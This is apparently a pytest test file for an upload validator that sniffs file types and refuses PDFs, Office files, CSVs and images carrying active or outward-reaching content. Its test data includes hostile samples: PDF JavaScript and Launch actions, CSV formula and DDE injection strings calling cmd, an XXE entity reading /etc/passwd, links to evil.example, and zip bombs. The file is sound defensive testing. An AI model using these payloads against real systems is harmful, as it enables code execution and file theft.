import io
import zipfile
import zlib

import pytest
from PIL import Image

from documents import sample
from documents.evidence import Attached
from documents.render import render_record
from documents.sniffing import KINDS, kind_of

PDF = b"%%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n%s\ntrailer <</Root 1 0 R>>\n%%%%EOF\n"


def pdf(inside: bytes = b"") -> bytes:
    return PDF % inside


def packed(objects: bytes) -> bytes:
    stream = zlib.compress(objects)
    return pdf(
        b"5 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>> stream\n%s\nendstream endobj"
        % (len(stream), stream)
    )


def office(main: str = "xl/workbook.xml", **parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(main, "<workbook/>")
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return out.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (4, 3)) -> bytes:
    out = io.BytesIO()
    Image.new("L", size).save(out, kind)
    return out.getvalue()


@pytest.mark.parametrize(
    ("ending", "data"),
    [
        ("pdf", pdf()),
        ("pdf", packed(b"3 0 <</Type/Page>>")),
        ("pdf", pdf(b"7 0 obj (JavaScript is not a name here) endobj")),
        ("png", picture()),
        ("jpg", picture("JPEG")),
        ("xlsx", office()),
        ("docx", office("word/document.xml")),
        ("csv", "编号;值\r\n1;2,5\n".encode()),
        ("csv", "编号,值".encode("gb18030")),
        ("csv", b'a,-1.5,+2 mm,-,--,+86 512-1\n-3e-5;\'-7;"-8";a=b;x@y\n'),
        ("xlsx", office(xl__worksheets__sheet1_dot_xml=b"<c><f>SUM(A1:A9)</f></c>")),
        ("txt", "\ufeffplain".encode("utf-16-le")),
        ("txt", b"a < b & c"),
    ],
)
def test_an_honest_file_is_taken(ending: str, data: bytes) -> None:
    kind = KINDS[ending]
    assert kind_of(data) == kind.sniffed
    assert kind.fault(data) == ""


@pytest.mark.parametrize(
    "inside",
    [
        b"3 0 obj <</S/JavaScript/JS(app.alert\\(1\\))>> endobj",
        b"3 0 obj <</S/#4aava#53cript/JS 4 0 R>> endobj",
        b"3 0 obj <</S/Launch/F(calc.exe)>> endobj",
        b"3 0 obj <</S /SubmitForm>> endobj",
        b"3 0 obj <</XFA[]>> endobj",
        b"3 0 obj <</S/GoToR/F(//evil.example/share)>> endobj",
        b"3 0 obj <</S/Rendition/R 4 0 R>> endobj",
        b"3 0 obj <</Type/Filespec/EF 4 0 R>> endobj",
        b"3 0 obj <</Type/Filespec/EF<</F 9 0 R>>>> endobj",
        b"trailer <</Encrypt 9 0 R>>",
    ],
)
def test_a_pdf_that_acts_by_itself_or_is_locked_is_refused(inside: bytes) -> None:
    assert KINDS["pdf"].fault(pdf(inside))


def test_a_script_packed_in_an_object_stream_is_found() -> None:
    assert "script" in KINDS["pdf"].fault(packed(b"3 0 <</S/JavaScript/JS(1)>>"))


def test_a_script_is_found_behind_a_dictionary_of_any_length() -> None:
    stream = zlib.compress(b"3 0 <</S/JavaScript/JS(1)>>")
    padded = b"5 0 obj <</Type/ObjStm/X(%s)/Length %d>> stream\n%s\nendstream endobj"
    assert "script" in KINDS["pdf"].fault(pdf(padded % (b"x" * 5000, len(stream), stream)))


def test_a_pdf_whose_objects_swell_is_refused() -> None:
    assert "unpacks" in KINDS["pdf"].fault(packed(bytes(40_000_000)))


def test_a_truncated_pdf_is_refused() -> None:
    assert KINDS["pdf"].fault(pdf()[:-10] + b" " * 5000)


@pytest.mark.parametrize(
    "data",
    [
        office(xl__vbaProject_dot_bin=b"x"),
        office(xl__embeddings__oleObject1_dot_bin=b"x"),
        office(setup_dot_exe=b"x"),
        office("other.xml"),
        office()[:-30],
        b"PK\x03\x04nothing",
    ],
)
def test_an_office_file_with_programs_inside_or_none_at_all_is_refused(data: bytes) -> None:
    assert KINDS["xlsx"].fault(data)


@pytest.mark.urs("URS-020")
@pytest.mark.parametrize(
    "cell",
    ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C'!A0", ' "=HYPERLINK(""http://x"")"', "＝1+1"],
)
def test_a_table_with_a_formula_is_refused(cell: str) -> None:
    for line in (cell, f"a,{cell}", f"a;1\n{cell};2", f"a\t{cell}"):
        assert "formula" in KINDS["csv"].fault(line.encode())


@pytest.mark.parametrize(
    ("inside", "fault"),
    [
        (b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "entities"),
        ("<!DOCTYPE a>".encode("utf-16"), "entities"),
        (b" " * (1024 * 1024 - 4) + b"<!ENTITY b 'c'>", "entities"),
        (b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', "elsewhere"),
        (b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/"/>', "elsewhere"),
    ],
)
def test_an_office_file_that_reaches_out_is_refused(inside: bytes, fault: str) -> None:
    assert fault in KINDS["xlsx"].fault(office(xl__part_dot_xml=inside))
    assert fault in KINDS["docx"].fault(office("word/document.xml", word___rels__a_dot_rels=inside))


def test_a_zip_bomb_is_refused() -> None:
    assert "unpacks" in KINDS["xlsx"].fault(office(xl__sheet_dot_xml=bytes(210 * 1024 * 1024)))


def test_a_picture_of_too_many_pixels_is_refused_unopened() -> None:
    assert "pixels" in KINDS["png"].fault(picture(size=(9000, 9000)))
    assert KINDS["png"].fault(picture()[:40])


@pytest.mark.parametrize("data", [b"a\x00b", b"\x1b[31m", b"\x81\x30\x81"])
def test_a_text_with_signs_no_text_has_is_refused(data: bytes) -> None:
    assert KINDS["txt"].fault(data)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"MZ\x90", "program"),
        (b"#!/bin/sh", "program"),
        (b"\x7fELF", "program"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "markup"),
        (b"\xef\xbb\xbf \n<!DOCTYPE html>", "markup"),
        (b"plain", "text"),
    ],
)
def test_the_first_bytes_say_what_a_file_is(data: bytes, kind: str) -> None:
    assert kind_of(data) == kind


def carrying(name: str, data: bytes) -> bytes:
    """A PDF/A-3 of the product with a file inside."""
    house = sample.house("en")
    files = [Attached(name, data)]
    return render_record(
        sample.record("en"), evidence=sample.evidence(1), diagram=(), attachments=files, house=house
    )


@pytest.mark.urs("URS-020")
@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("model.bpmn", b"<?xml version='1.0'?><definitions><script>a = 1</script></definitions>"),
        ("values.json", b'{"a": 1}'),
        ("photo.png", picture()),
        ("list.xlsx", office()),
        ("other.pdf", pdf()),
    ],
)
def test_a_record_of_the_product_is_taken_with_the_data_it_carries(name: str, data: bytes) -> None:
    assert KINDS["pdf"].fault(carrying(name, data)) == ""


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("tool.exe", b"MZ" + bytes(500)),
        ("values.json", b"MZ" + bytes(500)),
        ("values.json", b"\x7fELF" + bytes(500)),
        ("values.json", bytes(range(1, 256)) * 4),
        ("run.js", b"alert(1)"),
        ("page.xml", b"<html><body onload='x()'/></html>"),
        ("entities.xml", b"<?xml version='1.0'?><!DOCTYPE a><a/>"),
        ("other.pdf", pdf(b"3 0 obj <</S/JavaScript/JS(1)>> endobj")),
        ("macros.xlsx", office(xl__vbaProject_dot_bin=b"x")),
    ],
)
def test_a_pdf_that_packs_anything_but_data_is_refused(name: str, data: bytes) -> None:
    assert "packed" in KINDS["pdf"].fault(carrying(name, data))


@pytest.mark.parametrize(
    "stream",
    [
        b"<</Filter/ASCIIHexDecode>> stream\n4d5a\nendstream",
        b"<</Filter/ASCIIHex#44ecode>> stream\n4d5a\nendstream",
        b"<</Filter 8 0 R>> stream\n4d5a\nendstream",
        b"<</Filter%\n/ASCIIHexDecode>> stream\n4d5a\nendstream",
        b"<</Filter[/FlateDecode/ASCIIHexDecode]>> stream\n4d5a\nendstream",
    ],
)
def test_a_packed_file_that_cannot_be_unpacked_here_is_refused(stream: bytes) -> None:
    spec = b"3 0 obj <</EF<</F 4 0 R>>/UF(a.txt)>> endobj\n4 0 obj %s endobj"
    assert "packed" in KINDS["pdf"].fault(pdf(spec % stream))
    assert KINDS["pdf"].fault(pdf(spec % b"<<>> stream\nplain\nendstream")) == ""
